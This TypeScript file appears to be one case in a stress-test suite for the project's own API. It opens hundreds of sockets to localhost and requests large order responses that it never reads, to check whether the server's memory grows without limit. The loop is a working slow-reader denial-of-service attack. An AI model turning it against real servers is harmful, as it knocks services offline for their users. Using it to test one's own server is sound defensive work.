import { connect, type Socket } from 'node:net'
import type { Attack } from '../attack.ts'
import { createLongOrders } from '../preparations.ts'

const SOCKETS = 300
const PAUSE_MS = 50

/**
 * Requests responses of 6 MB and never reads them. It worked because the server buffered unread responses without limit. The figure to look
 * at is the memory.
 */
export const unreadResponses: Attack = {
  name: 'unread-responses',
  title: '300 responses of 6 MB that the client does not read',
  prepare: (flood, { short }) => createLongOrders(flood, short ? 5 : 40, short ? 50 : 1_000),
  async run(flood, { key, short }) {
    const sockets: Socket[] = []
    while (!flood.signal.aborted && sockets.length < (short ? 10 : SOCKETS)) {
      sockets.push(await ask(flood.port, key))
      await flood.pause(PAUSE_MS)
    }
    await flood.pause(60_000)
    for (const socket of sockets) {
      if (socket.destroyed) flood.count(0)
      socket.destroy()
    }
  },
}

/** Requests a response and never reads it: when the socket buffers of the system are full, the server can send no more. */
function ask(port: number, key: string): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connect({ port, host: '127.0.0.1' })
    socket.on('error', () => resolve(socket))
    socket.on('connect', () => {
      const head = `host: 127.0.0.1\r\nx-api-key: ${key}\r\n\r\n`
      socket.write(`GET /api/v1/orders?include_details=true&limit=40 HTTP/1.1\r\n${head}`, () => resolve(socket))
    })
  })
}
